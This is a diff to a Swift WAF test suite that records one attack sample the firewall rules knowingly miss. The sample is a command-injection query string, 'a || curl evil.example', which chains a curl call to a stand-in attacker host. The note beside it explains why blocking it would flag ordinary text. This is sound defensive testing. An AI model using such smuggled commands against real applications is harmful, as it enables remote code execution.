@@ -5,7 +5,10 @@ import Testing
 @Suite("WAF corpus: helpdesk traffic passes, attacks are blocked")
 struct WafCorpusTests {
     /// Attack samples the shipped rules do not block at paranoia 1, with the reason. Keep this tiny.
-    static let knownMisses: [String: String] = [:]
+    static let knownMisses: [String: String] = [
+        "evasions.json: rce in query: a || curl evil.example":
+            "a network command followed by a bare host name reads like prose (\"; ping google.com works\"); flagging it would block ordinary subjects",
+    ]
 
     @Test(arguments: [1, 2])
     func noBenignRequestIsBlocked(paranoia: Int) throws {
